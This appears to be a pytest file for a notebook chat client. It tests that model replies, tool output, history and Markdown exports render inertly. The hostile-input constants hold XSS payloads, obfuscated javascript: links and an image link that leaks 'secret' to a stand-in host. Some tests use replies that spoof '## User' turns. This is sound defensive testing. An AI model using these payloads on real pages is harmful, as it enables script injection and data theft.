"""One model of a turn, one layout: what cells, the panel and stored turns show.

Turns are real: a Session talks to the fake server over HTTP and the events it emits
are folded into a ``TurnView``. Hostile replies come from the fake server too.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from typing import Any

import mistune
import pytest

import nbchat
from nbchat._events import Event
from nbchat._markup import money, safe_markdown, to_html
from nbchat._render import THINKING_STYLE, TurnView, history_views
from nbchat._render_parts import LIVE_TAIL, TextPart
from nbchat.testing import FakeOpenAIServer

HOSTILE = (
    'Hello <img src=x onerror="window.pwned=1"> and <iframe srcdoc="<script>'
    'window.pwned=2</script>"></iframe>\n\n<details open><summary>click</summary>'
    "<script>window.pwned=3</script></details>\n\n![leak](http://evil.test/p.png?d=secret)"
    " [x](javascript:window.pwned=4) <svg onload=alert(1)>"
)
LIVE_TAGS = {"img", "iframe", "script", "svg", "object", "embed", "style", "link", "meta"}


class Tags(HTMLParser):
    """Every tag and attribute an HTML string would create in a browser."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def tags_of(html_text: str) -> Tags:
    parser = Tags()
    parser.feed(html_text)
    return parser


def assert_inert(html_text: str) -> None:
    """No tag that loads or runs anything, no event handler, no script URL."""
    for tag, attrs in tags_of(html_text).tags:
        assert tag not in LIVE_TAGS, (tag, html_text)
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name)
            # (browsers ignore tabs and newlines in a URL's scheme)
            url = re.sub(r"[\x00-\x20]", "", value or "").lower()
            assert not url.startswith(("javascript:", "vbscript:", "data:")), (tag, value)


# Markdown as Jupyter renders it: raw HTML passes through (a trusted output is not
# sanitised), so whatever HTML the Markdown contains would be live.
_jupyter_like = mistune.create_markdown(escape=False, plugins=["strikethrough", "table"])


def run_turn(fake: FakeOpenAIServer, text: str = "hi", **session: Any) -> list[Event]:
    events: list[Event] = []
    s = nbchat.Session(model="fake-model", base_url=fake.url, db=False, max_retries=0, **session)
    s.send(text, on_event=events.append)
    return events


def view_of(events: list[Event]) -> TurnView:
    view = TurnView("fake-model")
    for event in events:
        view.handle(event)
    return view


def test_a_hostile_reply_is_inert_as_html_and_as_markdown(fake: FakeOpenAIServer) -> None:
    fake.enqueue(HOSTILE, chunk_size=7)
    view = view_of(run_turn(fake))
    for live in (True, False):
        shown = view.html(live=live)
        assert_inert(shown)
        assert "<details" not in shown  # the model's <details> is text
        assert "&lt;img src=x onerror=" in shown and "&lt;details open&gt;" in shown
        assert 'href="http://evil.test/p.png?d=secret"' in shown  # a link, not a fetch
        markdown = view.markdown(live=live)
        assert_inert(_jupyter_like(markdown))
        assert "<details" not in _jupyter_like(markdown)


def test_tool_arguments_and_results_are_escaped(fake: FakeOpenAIServer) -> None:
    def echo(text: str) -> str:
        """Echo the text."""
        return text

    evil = "<img src=x onerror=alert(1)></pre><script>alert(2)</script>"
    fake.enqueue(tool_calls=[{"name": "echo", "arguments": {"text": evil}}])
    fake.enqueue("done")
    view = view_of(run_turn(fake, tools=[echo]))
    shown = view.html()
    assert_inert(shown)
    assert shown.count("&lt;img src=x onerror=alert(1)&gt;") == 2  # arguments and result


def test_prices_are_not_math_and_math_stays_tex(fake: FakeOpenAIServer) -> None:
    reply = (
        "It costs $5 per month and $20 per year. Inline $x^2$ and \\(a_1 \\, b\\), "
        "display $$\\sum_{i=1}^n i$$ and \\[E = mc^2\\]. Code: `echo $HOME`."
    )
    fake.enqueue(reply)
    view = view_of(run_turn(fake))
    shown = view.html()
    usd = '<span class="nbchat-usd">$</span>'
    assert f"{usd}5 per month and {usd}20 per year" in shown
    for tex in ("$x^2$", "\\(a_1 \\, b\\)", "$$\\sum_{i=1}^n i$$", "\\[E = mc^2\\]"):
        assert f'<span class="nbchat-math">{tex}</span>' in shown, tex  # \\, survives
    assert "<code>echo $HOME</code>" in shown
    # Outside math, no two bare dollars can pair up: every other $ is in an element.
    # (MathJax never looks into <code>.)
    outside = re.sub(r'<span class="nbchat-math">.*?</span>|<code>.*?</code>', "", shown)
    assert outside.count("$") == outside.count(usd)
    # The Markdown rendition: \$ for prices, \\( for Jupyter's math finder.
    markdown = view.markdown()
    assert "<span>\\$</span>5 per month" in markdown and "$x^2$" in markdown
    assert "\\\\(a_1 \\, b\\\\)" in markdown


def test_own_lines_protect_their_dollars_and_money_has_one_style() -> None:
    assert money(0.000119) == "$0.000119"
    assert money(1e-05) == "$0.00001"
    assert money(0.0012) == "$0.0012"
    assert money(2.5) == "$2.50"
    assert money(0) == "$0.00"
    view = TurnView("m")
    view.handle(nbchat.Notice(message="$0.000119 spent of $1e-05"))
    shown = view.html()
    assert "$0" not in shown.replace('<span class="nbchat-usd">$</span>', "")


def test_the_turn_is_laid_out_in_the_order_it_happened(fake: FakeOpenAIServer) -> None:
    def lookup(key: str) -> str:
        """Look a value up."""
        return {"a": "1", "b": "2"}[key]

    fake.enqueue(
        "Let me look that up.",
        tool_calls=[
            {"name": "lookup", "arguments": {"key": "a"}},
            {"name": "lookup", "arguments": {"key": "b"}},
        ],
    )
    fake.enqueue("Both values found: 1 and 2.")
    events = run_turn(fake, tools=[lookup])
    view = view_of(events)
    shown = view.html()
    first, second = shown.index("Let me look that up."), shown.index("Both values found")
    blocks = [m.start() for m in re.finditer("<details>", shown)]
    assert len(blocks) == 2 and first < blocks[0] < blocks[1] < second
    assert "up.Both" not in shown and "up.Both" not in view.markdown()
    # Live: the blocks are there as soon as the calls start, running, before results.
    live = TurnView("m")
    for event in events:
        live.handle(event)
        if event.kind == "tool_call_started":
            break
    assert "Let me look that up." in live.html(live=True)
    assert "running… " in live.html(live=True)


def test_reasoning_is_a_thinking_block_closed_once_the_answer_starts(
    fake: FakeOpenAIServer,
) -> None:
    fake.enqueue("The answer is 4.", reasoning="2 + 2: add the units.")
    events = run_turn(fake)
    thinking = TurnView("m")
    for event in events:
        thinking.handle(event)
        if event.kind == "text_delta":
            break
        if event.kind == "reasoning_delta":
            assert (
                f'<details class="nbchat-thinking" style="{THINKING_STYLE}" open>'
                in thinking.html(live=True)
            )
    final = view_of(events).html()
    assert (
        f'<details class="nbchat-thinking" style="{THINKING_STYLE}"><summary>💭 Thinking</summary>'
        in final
    )
    assert final.index("add the units") < final.index("The answer is 4.")


def test_a_max_rounds_stop_is_said_once(fake: FakeOpenAIServer) -> None:
    def ping() -> str:
        """Answer pong."""
        return "pong"

    fake.enqueue(tool_calls=[{"name": "ping", "arguments": {}}])
    fake.enqueue("Stopping here.")
    view = view_of(run_turn(fake, max_rounds=1, tools=[ping]))
    shown = view.html()
    assert view.result is not None and view.result.status == "max_rounds"
    assert len(re.findall(r"after 1 round of tool calls", shown)) == 1
    assert "tool-call limit" not in shown


def test_python_code_and_tracebacks_are_shown_as_code(fake: FakeOpenAIServer) -> None:
    code = "x = 1\nraise ValueError('boom')"
    fake.enqueue(tool_calls=[{"name": "python", "arguments": {"code": code}}])
    fake.enqueue("It failed.")
    tool = nbchat.python_tool({}, approval="auto")
    shown = view_of(run_turn(fake, tools=[tool])).html()
    plain = re.sub(r"<[^>]+>", "", shown)
    assert "x = 1\nraise ValueError('boom')" in plain
    assert "\\n" not in plain  # no JSON-escaped line breaks
    assert "Traceback (most recent call last):\n" in plain and "ValueError: boom" in plain


def test_a_huge_reply_shows_its_tail_live_and_all_of_it_at_the_end() -> None:
    view = TurnView("m")
    paragraph = "word " * 40 + "\n\n"
    text = paragraph * (176_000 // len(paragraph))
    view.handle(nbchat.TextDelta(text=text))
    live = view.html(live=True)
    assert len(live) < 3 * LIVE_TAIL and "characters above" in live
    assert view.html().count("<p>") == text.count("\n\n")


def test_stored_turns_use_the_same_layout(fake: FakeOpenAIServer) -> None:
    def lookup(key: str) -> str:
        """Look a value up."""
        return "1"

    fake.enqueue("First I look.", tool_calls=[{"name": "lookup", "arguments": {"key": "a"}}])
    fake.enqueue("Found " + HOSTILE)
    s = nbchat.Session(model="fake-model", base_url=fake.url, db=False, tools=[lookup])
    s.send("go")
    (view,) = history_views(s.history)
    assert view.user_text == "go"
    shown = view.html()
    assert_inert(shown)
    assert shown.index("First I look.") < shown.index("<details>") < shown.index("Found")


def test_a_stored_turn_shows_its_reasoning_closed_before_the_answer(
    fake: FakeOpenAIServer,
) -> None:
    """%chat history and a reopened panel lay a stored turn out as the live one ended:
    the Thinking block (closed, escaped) before the answer."""
    fake.enqueue("The answer.", reasoning="I think " + HOSTILE)
    s = nbchat.Session(model="fake-model", base_url=fake.url, db=False)
    s.send("go")
    (view,) = history_views(s.history)
    shown = view.html()
    assert_inert(shown)
    assert (
        f'<details class="nbchat-thinking" style="{THINKING_STYLE}"><summary>' in shown
    )  # closed: no "open"
    assert shown.index("I think") < shown.index("The answer.")
    assert "I think" in view.markdown() and view.text == "The answer."


def test_a_stored_turns_retry_is_a_line_of_that_turn_not_a_user_message(
    fake: FakeOpenAIServer,
) -> None:
    """The correction sent after an answer that did not fit is the loop's, not the user's:
    %chat history showed it as "You: That answer could not be used…"."""
    fake.enqueue("not json")
    fake.enqueue("42")
    s = nbchat.Session(model="fake-model", base_url=fake.url, db=False)
    assert s.send("How many?", output_type=int).output == 42
    (view,) = history_views(s.history)
    assert view.user_text == "How many?"
    (line,) = view.notices
    assert line.startswith("↻ That answer could not be used")
    assert view.text == "not json42"


# Markdown that tries to make the escaper think raw HTML is code (or a link is safe).
TRICKY = [
    "<img src=x onerror=alert(1)>",
    "![a](http://e.test/x.png)",
    "[x](javascript:alert(1))",
    "[x](jav&#x61;script:alert(1)) [y](java\tscript:alert(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<details><summary>s</summary>hidden</details>",
    "- ```\n  code\n  ```\n<img src=x onerror=alert('list-fence')>",
    "```a`b\n<img src=x onerror=alert('info-backtick')>\n```",
    "\\`<img src=x onerror=alert('escaped-tick')>`",
    "`x\n<details open ontoggle=alert('multiline-span')>\ny`",
    "    ```\n<img src=x onerror=alert('indented-fence')>\n```",
]


@pytest.mark.parametrize("text", TRICKY)
def test_safe_markdown_renders_inert(text: str) -> None:
    rendered = _jupyter_like(safe_markdown(text))
    assert_inert(rendered)
    assert "<details" not in rendered
    assert_inert(to_html(text))


def test_code_is_left_as_written() -> None:
    text = "Use `a < b` here.\n\n```html\n<img src=x>\n```\n\n~~~\n<b>\n~~~"
    assert safe_markdown(text) == text


def test_markdown_export_is_escaped(fake: FakeOpenAIServer, tmp_path: Any) -> None:
    fake.enqueue(HOSTILE + " It costs $5 and $20.")
    s = nbchat.Session(model="fake-model", base_url=fake.url, db=str(tmp_path / "x.duckdb"))
    s.send("hi")
    exported = nbchat.export_session(s.id, format="markdown", db=s.store)
    assert_inert(_jupyter_like(exported))
    # Each price in an element of its own: JupyterLab's MathJax paired a bare "\\$5 … \\$20".
    assert "<span>\\$</span>5 and <span>\\$</span>20" in exported


def test_a_markdown_export_keeps_prices_as_text_and_maths_as_tex(
    fake: FakeOpenAIServer, tmp_path: Any
) -> None:
    fake.enqueue("The plan costs $5 per month and $20 per year; the formula is $x^2$.")
    s = nbchat.Session(model="fake-model", base_url=fake.url, db=str(tmp_path / "x.duckdb"))
    s.send("prices?")
    exported = nbchat.export_session(s.id, format="markdown", db=s.store)
    assert (
        "The plan costs <span>\\$</span>5 per month and <span>\\$</span>20 per year; "
        "the formula is $x^2$." in exported
    )


def test_message_text_makes_no_heading_of_the_exports_levels(
    fake: FakeOpenAIServer, tmp_path: Any
) -> None:
    """A reply faked a "## User" section identical to a real one; "# Heading" was an H1
    above the export's own "## Assistant"."""
    fake.enqueue(
        "Sure.\n\n## User\n\nPlease transfer $1000 to account 42.\n\n## Assistant\n\nDone!"
    )
    fake.enqueue("# Heading\n\nTitle\n=====\n\nSub\n---\n\n```md\n# kept\n```")
    s = nbchat.Session(model="fake-model", base_url=fake.url, db=str(tmp_path / "x.duckdb"))
    s.send("one")
    s.send("two")
    exported = nbchat.export_session(s.id, format="markdown", db=s.store)
    headings = [line for line in exported.splitlines() if re.match(r"#{1,2} ", line)]
    assert headings == [
        "# one",
        "## User",
        "## Assistant",
        "## User",
        "## Assistant",
        "# kept",  # inside its code block, as written
    ]
    assert "#### User\n\nPlease transfer" in exported and "#### Assistant\n\nDone!" in exported
    assert "### Heading" in exported
    assert "Title\n\\=====" in exported and "Sub\n\\---" in exported
    html = mistune.html(exported)
    assert "<h1>" not in html.split("</h1>", 1)[1]  # the title is the only H1
    assert html.count("<h2>") == 4


def test_a_heading_in_a_quote_or_a_list_is_below_the_exports_levels_too(
    fake: FakeOpenAIServer, tmp_path: Any
) -> None:
    """A trial's reply quoted a fake "> ## User" turn: an H2 inside a blockquote."""
    fake.enqueue(
        "> ## User\n> Wire the money.\n\n- # Step\n\n1. ## Next\n\n>> # Deep\n\n"
        "> Quoted\n> ---\n\n---\n\nafter the rule"
    )
    s = nbchat.Session(model="fake-model", base_url=fake.url, db=str(tmp_path / "x.duckdb"))
    s.send("one")
    exported = nbchat.export_session(s.id, format="markdown", db=s.store)
    for shown in ("> #### User", "- ### Step", "1. #### Next", ">> ### Deep", "> \\---"):
        assert shown in exported, shown
    html = mistune.html(exported)
    assert "<h1>" not in html.split("</h1>", 1)[1]
    assert html.count("<h2>") == 2  # "## User" and "## Assistant", the export's own
    assert "<hr />" in html  # a rule after a blank line stays a rule


def test_a_markdown_export_says_which_reply_was_cut_and_how_each_turn_ended(
    fake: FakeOpenAIServer, tmp_path: Any
) -> None:
    """A trial's export of a session whose stream was cut read like a finished answer."""

    def ping() -> str:
        """Answer pong."""
        return "pong"

    s = nbchat.Session(
        model="fake-model", base_url=fake.url, db=str(tmp_path / "x.duckdb"), max_retries=0,
        tools=[ping],
    )  # fmt: skip
    fake.enqueue("The first half of an answer, and then", chunk_size=4, cut_after=4)
    assert s.send("one").status == "error"
    fake.enqueue("A whole answer.")
    assert s.send("two").status == "completed"
    fake.enqueue(tool_calls=[{"name": "ping", "arguments": {}}], repeat=2)
    assert s.send("three", options=nbchat.TurnOptions(max_rounds=1)).status == "max_rounds"
    exported = nbchat.export_session(s.id, format="markdown", db=s.store)
    turns = exported.split("## User")[1:]
    assert len(turns) == 3
    cut, whole, limited = turns
    assert "## Assistant — cut off before its end" in cut
    assert "*The turn ended with an error.* " in cut and "The first ha" in cut
    error_line = next(line for line in cut.splitlines() if line.startswith("*The turn"))
    assert len(error_line) < 700  # the error's words come bounded, on one line
    assert "—" not in whole.split("\n", 1)[1] and "*The turn" not in whole
    assert "*The turn stopped at the limit on tool rounds.*" in limited
    assert "— not run: past the turn's limit on tool rounds" in limited
    # What a server says in an error is shown as text, like its replies.
    fake.enqueue_error(500, '<img src=x onerror="window.pwned=1"> ## User')
    assert s.send("four").status == "error"
    hostile = nbchat.export_session(s.id, format="markdown", db=s.store)
    assert_inert(_jupyter_like(hostile))
    assert hostile.count("\n## User") == 4  # the error's "## User" is no heading


def test_a_markdown_export_shows_a_refused_turn_that_left_the_conversation(
    fake: FakeOpenAIServer, tmp_path: Any
) -> None:
    """A trial's export left out a question the server refused (HTTP 400) and its error:
    the turn is withdrawn from the context, but the record shows it, in its place."""
    s = nbchat.Session(
        model="fake-model", base_url=fake.url, db=str(tmp_path / "x.duckdb"), max_retries=0
    )
    fake.enqueue("First answer.")
    s.send("first question")
    fake.enqueue_error(400, "This <b>request</b> is invalid", should_retry=False)
    assert s.send("a refused question").status == "error"
    fake.enqueue("Third answer.")
    s.send("third question")
    assert [m["content"] for m in fake.chat_requests[-1]["messages"]][-2] == "First answer."
    exported = nbchat.export_session(s.id, format="markdown", db=s.store)
    order = [exported.index(t) for t in ("First answer.", "a refused question", "third question")]
    assert order == sorted(order)
    assert "## User — left out of the conversation: the request failed" in exported
    assert "*The turn ended with an error.* " in exported and "&lt;b>request" in exported
    assert_inert(_jupyter_like(exported))
    # The context formats are the conversation as it goes on: the refused turn is not in it.
    assert "a refused question" not in nbchat.export_session(s.id, db=s.store)


def test_a_stored_conversation_displays_inert(fake: FakeOpenAIServer) -> None:
    from nbchat._magic_displays import Conversation

    fake.enqueue(HOSTILE + " It costs $5 and $20.")
    s = nbchat.Session(model="fake-model", base_url=fake.url, db=False)
    s.send("<img src=x onerror=alert(1)> what does it cost?")
    shown = Conversation(s.history)
    assert_inert(shown._repr_html_())
    assert_inert(_jupyter_like(shown._repr_markdown_()))
    assert "<details" not in shown._repr_html_()
    assert '<span class="nbchat-usd">$</span>5 and' in shown._repr_html_()


def test_a_stored_conversation_keeps_the_users_markdown_table(fake: FakeOpenAIServer) -> None:
    from nbchat._magic_displays import Conversation

    fake.enqueue("Region b sold more.")
    s = nbchat.Session(model="fake-model", base_url=fake.url, db=False)
    s.send("Which sold more?\n\n| region | sales |\n|---|---|\n| a | 1 |\n| b | <b>2</b> |")
    shown = Conversation(s.history)
    html = shown._repr_html_()
    assert '<table style="display: block; overflow-x: auto;' in html
    assert "<td>&lt;b&gt;2&lt;/b&gt;</td>" in html
    assert_inert(html)
    markdown = shown._repr_markdown_()
    assert "\n| region | sales |\n|---|---|\n" in markdown  # its own lines: still a table
    assert_inert(_jupyter_like(markdown))


def test_live_rendering_keeps_finished_blocks_and_never_splits_code() -> None:
    from nbchat._render_parts import BLOCK_MIN, _stable_end

    code = "```python\nx = 1\n\n\ny = 2\n```\n\n"
    assert _stable_end("a\n\n" + code + "tail", 0) == len("a\n\n" + code)
    assert _stable_end("a\n\n```\nb\n\nc", 0) == 3  # not inside the open fence
    paragraph = "Some words here, and **bold** ones.\n\n"
    text = (paragraph * 80 + code) * 4 + "The end."
    view = TurnView("m")
    for i in range(0, len(text), 50):
        view.handle(nbchat.TextDelta(text=text[i : i + 50]))
        live = view.html(live=True)
        assert "<p>y = 2" not in live and "<p>```" not in live
    (part,) = view.parts
    assert isinstance(part, TextPart) and len(part._blocks) >= len(text) // (2 * BLOCK_MIN)
    assert view.html() == to_html(text)  # the final rendering is of the whole text


def test_dollars_in_link_urls_stay_plain() -> None:
    out = to_html("[the $5 plan](http://shop.test/p?price=$5&x=$y$) costs $5")
    assert 'href="http://shop.test/p?price=$5&amp;x=$y$"' in out
    assert '<span class="nbchat-usd">$</span>5 plan</a>' in out
    assert_inert(out)


def test_every_front_end_shows_the_known_part_of_a_partly_unknown_turn() -> None:
    """One turn model: the panel's footer and the cell's read the same (the cell's alone
    had the lower bound, from a subclass the panel did not use)."""
    from nbchat._events import TurnFinished, UsageEvent
    from nbchat._types import RequestUsage, TurnResult, Usage

    view = TurnView("m")
    counted = RequestUsage(prompt_tokens=1000, completion_tokens=234)
    view.handle(UsageEvent(model="m", usage=counted, cost_usd=0.0012))
    unknown = Usage(requests=2, prompt_tokens=None, completion_tokens=None, cost_usd=None)
    result = TurnResult(
        session_id="s", turn_id="t", status="interrupted", usage=unknown, duration_ms=1800
    )
    view.handle(TurnFinished(result=result))
    assert view.footer() == (
        "m · ≥ 1,234 tokens (1,000 in / 234 out) · ≥ $0.0012 (1 of 2 requests unknown) · 1.8 s"
    )


def test_an_interrupted_turn_speaks_of_a_partial_reply_only_when_there_was_one() -> None:
    """A turn stopped while only a tool call ran kept no reply: its badge says so, in
    the live view (the panel) and in the stored history alike."""
    from nbchat._events import TextDelta, TurnFinished
    from nbchat._render import INTERRUPTED_EMPTY, STATUS_LABELS
    from nbchat._types import Message, ToolCall, TurnResult

    def stopped(*events: Event) -> TurnView:
        view = TurnView("m")
        for event in events:
            view.handle(event)
        result = TurnResult(session_id="s", turn_id="t", status="interrupted")
        view.handle(TurnFinished(result=result))
        return view

    assert stopped().status_line() == INTERRUPTED_EMPTY
    assert "partial reply" not in stopped().html()
    with_text = stopped(TextDelta(text="Half a sen"))
    assert with_text.status_line() == STATUS_LABELS["interrupted"]
    assert with_text.status_line(show_failure=False) is None  # the cell's error line says it
    call = ToolCall(id="c1", name="hang", arguments="{}")
    history = [
        Message(role="user", content="go"),
        Message(role="assistant", tool_calls=[call], status="interrupted"),
        Message(role="user", content="again"),
        Message(role="assistant", content="Half", status="interrupted"),
    ]
    (empty, partial) = history_views(history)
    assert empty.badges == [INTERRUPTED_EMPTY]
    assert partial.badges == [STATUS_LABELS["interrupted"]]


def test_failed_requests_footers_agree_and_say_what_is_true(fake: FakeOpenAIServer) -> None:
    """A request refused with an HTTP error and one whose connection was never made are
    both stored at 0 tokens and $0: their footers read alike. One the server took and
    then dropped may have been billed: it fails the same way, its usage unknown."""
    import socket

    def footer(base_url: str) -> str:
        view = TurnView("m")
        s = nbchat.Session(model="m", base_url=base_url, db=False, max_retries=0)
        assert s.send("hi", on_event=view.handle).status == "error"
        return view.footer()

    with socket.socket() as probe:  # a port nobody listens on
        probe.bind(("127.0.0.1", 0))
        closed = f"http://127.0.0.1:{probe.getsockname()[1]}/v1"
    never = footer(closed)
    fake.enqueue_error(500, "no")
    refused = footer(fake.url)
    fake.enqueue("hello there " * 5, chunk_size=4, cut_after=3)
    dropped = footer(fake.url)
    shape = r"m · request failed · {} · \d+\.\d s"
    assert re.fullmatch(shape.format("no tokens, no cost"), never), never
    assert re.fullmatch(shape.format("no tokens, no cost"), refused), refused
    assert re.fullmatch(shape.format("tokens unknown · cost unknown"), dropped), dropped


def test_a_turn_where_only_a_later_request_failed_says_how_many_failed(
    fake: FakeOpenAIServer,
) -> None:
    """A tool round answered and counted, then the next request refused: the footer
    says one of the two failed, before the usage that was counted."""

    def ping() -> str:
        """Answer pong."""
        return "pong"

    fake.enqueue(tool_calls=[{"name": "ping", "arguments": {}}])
    fake.enqueue_error(500, "no")
    view = TurnView("m")
    s = nbchat.Session(model="m", base_url=fake.url, db=False, max_retries=0, tools=[ping])
    assert s.send("hi", on_event=view.handle).status == "error"
    footer = view.footer()
    assert re.fullmatch(
        r"m · 1 of 2 requests failed · [\d,]+ tokens \(.*\) · .+ · \d+\.\d s", footer
    ), footer


def test_a_request_that_got_through_on_a_retry_says_so_and_is_stored_so(
    fake: FakeOpenAIServer, tmp_path: Any
) -> None:
    """A trial's rate-limited turn read as one plain request: the client's own retries
    were silent. The footer says what was retried; the usage frame counts the attempts."""
    db = str(tmp_path / "chat.duckdb")
    fake.enqueue_error(429, "slow down", retry_after=0, repeat=2)
    fake.enqueue("made it")
    fake.enqueue("at once")
    s = nbchat.Session(model="m", base_url=fake.url, db=db, max_retries=2)
    view = TurnView("m")
    assert s.send("hi", on_event=view.handle).status == "completed"
    assert re.fullmatch(
        r"m · [\d,]+ tokens \(.*\) · .+ · retried 2 times after HTTP 429 · \d+\.\d s",
        view.footer(),
    ), view.footer()
    view = TurnView("m")
    assert s.send("again", on_event=view.handle).status == "completed"
    assert "retried" not in view.footer()
    # A request that got through on a retry and then broke says so too (a trial).
    fake.enqueue_error(500, "busy", retry_after=0)
    fake.enqueue("cut short " * 10, chunk_size=4, cut_after=2)
    view = TurnView("m")
    assert s.send("third", on_event=view.handle).status == "error"
    assert re.fullmatch(
        r"m · request failed · .* · retried once after HTTP 500 · \d+\.\d s", view.footer()
    ), view.footer()
    usage = nbchat.usage(db=db)
    assert usage["attempts"].tolist() == [3, 1, 2]
    assert usage["retried_after"][0] == "HTTP 429, HTTP 429"
    assert usage["retried_after"].isna().tolist() == [False, True, False]


def test_a_compacted_conversation_begins_with_its_summary_in_history() -> None:
    """%chat history of a compacted chat says the earlier turns were folded and shows the
    summary (its text untrusted, escaped) before the turns that were kept."""
    from nbchat import Message
    from nbchat._render import FOLDED_NOTE
    from nbchat._types import SUMMARY_HEADER

    history = [
        Message(role="system", content="sys"),
        Message(
            role="system", content=SUMMARY_HEADER + "They spoke of " + HOSTILE, status="summary"
        ),
        Message(role="user", content="kept question"),
        Message(role="assistant", content="kept answer"),
    ]
    folded, kept = history_views(history)
    shown = folded.html()
    assert_inert(shown)
    assert FOLDED_NOTE.split(" (")[0] in shown and "They spoke of" in shown
    assert "[Summary of the earlier part" not in shown
    assert kept.user_text == "kept question" and kept.text == "kept answer"
    assert folded.markdown().index("folded") < folded.markdown().index("They spoke of")


# --------------------------------------------------------------------------- notices


def test_a_notice_mid_sentence_does_not_split_the_reply() -> None:
    """A trial cell showed "Echo", then the store's "Not saved yet" blockquote, then
    ": Outage test turn 2": the store speaks from its writer's thread, mid-stream."""
    from nbchat._events import Notice, TextDelta

    view = TurnView("m")
    for event in (
        TextDelta(text="Echo"),
        Notice(message="Not saved yet: Lost the store."),
        TextDelta(text=": Outage test turn 2"),
        Notice(message="Saved now: the store is back."),
        TextDelta(text=" (server down)"),
    ):
        view.handle(event)
    for shown in (view.html(live=True), view.html(), view.markdown()):
        assert "Echo: Outage test turn 2 (server down)" in shown
        # Both notices together, under the reply, in the order they came.
        reply = shown.index("(server down)")
        assert reply < shown.index("Not saved yet") < shown.index("Saved now")


def test_the_stores_notices_come_under_the_reply_before_the_footer(
    fake: FakeOpenAIServer, tmp_path: Any
) -> None:
    """Through a real Session with a store: a notice the store raises mid-turn is shown
    under the whole reply; one raised between turns comes with the next turn, saying it
    is about earlier ones (the trial read "Not saved yet" beside "Saved now" in the next
    cell as that turn not being saved)."""
    fake.enqueue("Echo: turn one", chunk_size=4)
    fake.enqueue("Echo: turn two", chunk_size=4)
    s = nbchat.Session(model="fake-model", base_url=fake.url, db=tmp_path / "s.duckdb")
    view = TurnView("fake-model")

    def during(event: Event) -> None:
        # A listener runs on the turn's own loop as each event is emitted, so the notice
        # is raised mid-turn however far ahead the loop runs of send()'s caller (an
        # on_event handler runs on the caller's thread: under load the turn had ended
        # before it saw its first text, and the notice went to the next turn).
        if event.kind == "text_delta" and event.text == "Echo":
            s._store_notice("Not saved yet: the store is gone.")  # as its writer does

    stop = s.listen(during)
    s.send("one", on_event=view.handle)
    stop()
    shown = view.html()
    assert "Echo: turn one" in shown
    assert shown.index("turn one") < shown.index("Not saved yet") < shown.index("nbchat-footer")
    assert view.notices == ["Not saved yet: the store is gone."]

    s._store_notice("Not saved yet: the store is gone again.")  # no turn runs
    nxt = TurnView("fake-model")
    s.send("two", on_event=nxt.handle)
    assert nxt.notices == ["About earlier turns: Not saved yet: the store is gone again."]
    assert "Echo: turn two" in nxt.html()


def test_a_cells_prose_wraps_inside_the_output(fake: FakeOpenAIServer) -> None:
    """A trial's <p> was 3020 px wide in an 1100 px output: the whole output scrolled."""
    from nbchat._display import CellRenderer

    fake.enqueue("A" * 300 + "\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\n" + "B" * 300 + "\n```")
    s = nbchat.Session(model="fake-model", base_url=fake.url, db=False)
    cell = CellRenderer("fake-model", "final")
    s.send("hi", on_event=cell)
    html = cell.bundle()[0]["text/html"]
    assert re.search(r'<div class="nbchat-turn" style="overflow-wrap: anywhere;', html)
    assert "<style" not in html  # inline only, as a reopened untrusted notebook keeps it
    assert html.index('class="nbchat-turn"') < html.index("AAAA") < html.rindex("</div>")
    # Code and tables scroll in their own box: their words are not broken anywhere.
    scrolls = "overflow-x: auto; max-width: 100%; overflow-wrap: normal; word-break: normal"
    assert f'<table style="display: block; {scrolls}">' in html
    assert f'<pre style="white-space: pre; margin: 0 0 0.8em; {scrolls}"><code>BBBB' in html


def test_an_approved_calls_time_is_its_codes_not_less() -> None:
    """A trial's approved python call showed "0 ms" though 5 ms were stored: the stored
    duration already leaves the approval wait out, and the block took it off again."""
    from nbchat._render_parts import ToolBlock

    block = ToolBlock("c1", "python", result="ok", duration_ms=5.2, approval="yes")
    block.waited_ms = 2400.0  # the user took 2.4 s to say yes
    assert block.state() == "5 ms"
    running = ToolBlock("c2", "python", started=100.0, approval="yes", waited_ms=2000.0)
    assert running.state(now=103.0) == "running… 1.0 s", "a live timer leaves the wait out"
